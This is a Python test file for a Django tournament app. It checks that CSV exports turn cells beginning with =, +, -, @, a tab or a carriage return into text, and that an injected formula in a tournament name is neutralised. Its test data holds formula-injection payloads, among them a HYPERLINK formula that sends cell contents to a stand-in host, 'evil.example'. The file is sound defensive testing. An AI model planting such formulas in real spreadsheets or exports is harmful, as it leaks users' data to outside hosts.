"""CSV exports: a cell that a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest
from django.urls import reverse

from lib.spreadsheets import spreadsheet_safe
from tournaments.models import Tournament


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_formula_cells_become_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Kyiv Open", "-12.5", "+3", "2450", "", "Smith, John"])
def test_plain_text_and_numbers_are_unchanged(cell):
    assert spreadsheet_safe(cell) == cell


def test_values_other_than_text_are_unchanged():
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None


def test_the_desk_export_neutralises_a_formula_in_a_tournament_name(client, cast):
    name = '=HYPERLINK("http://evil.example","Kyiv")'
    Tournament.objects.filter(pk=cast.tournament.pk).update(name=name)
    client.force_login(cast.officer)
    response = client.get(reverse("players:desk"), {"export": "awaiting"})
    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))]
    assert "'" + name in cells
    assert name not in cells
